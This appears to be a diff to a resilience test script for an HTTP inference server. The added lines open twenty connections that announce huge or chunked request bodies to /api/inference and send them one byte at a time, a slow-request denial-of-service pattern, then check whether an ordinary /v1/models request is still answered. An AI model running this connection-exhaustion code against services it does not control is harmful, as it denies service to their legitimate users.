@@ -40,5 +40,13 @@ for byte in b"POST /api/inf":
     for sock in slow:
         sock.send(bytes((byte,)))
     time.sleep(0.02)
+head = b"POST /api/inference HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
+bodies = [socket.create_connection((host, int(port))) for _ in range(20)]
+for number, sock in enumerate(bodies):
+    sock.send(head + (b"Content-Length: 1000000\r\n\r\n", b"Transfer-Encoding: chunked\r\n\r\nf4240\r\n")[number % 2])
+for byte in b'{"evaluation':
+    for sock in bodies:
+        sock.send(bytes((byte,)))
+    time.sleep(0.02)
 reply = say(b"GET /v1/models HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
 print("honest call:", reply[:15].decode(), flush=True)
